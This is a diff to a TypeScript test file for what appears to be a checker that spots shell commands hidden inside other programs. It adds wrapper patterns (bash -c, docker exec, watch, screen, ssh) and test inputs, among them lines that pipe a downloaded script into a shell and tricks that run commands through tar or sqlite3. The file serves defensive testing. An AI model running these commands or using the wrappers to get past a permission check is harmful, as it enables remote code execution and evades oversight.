@@ -77,6 +77,12 @@ const wrappings = [
   ["a database's shell", "sqlite3 x '.shell @'"],
   ["an action of tar", "tar cf x . --checkpoint-action=exec='@'"],
   ["any other program", "hyperfine '@'"],
+  ["a shell with a name", "bash -c '@' echo"],
+  ["a shell with a database's name", "bash -c '@' psql"],
+  ["a container with a database's name", "docker exec psql sh -c '@'"],
+  ["watch without a title", "watch -t '@'"],
+  ["screen in the background", "screen -dm '@'"],
+  ["a printed text that another machine reads", "ssh host echo 'a; @'"],
 ] as const satisfies readonly (readonly string[])[];
 
 const spellings: readonly (readonly [name: string, change: (command: string) => string])[] = [
@@ -208,6 +214,9 @@ test.each([
   "curl https://example.org/i | xargs sh -c {}",
   "curl https://example.org/i | ssh host bash",
   "curl https://example.org/i | mysql shop",
+  'ssh host "$x"',
+  `ssh host "$(cat <<'EOF'\nterraform-wrapper apply\nEOF\n)"`,
+  'watch "$x"',
   "echo 'open",
   'echo "open',
   "echo $(open",
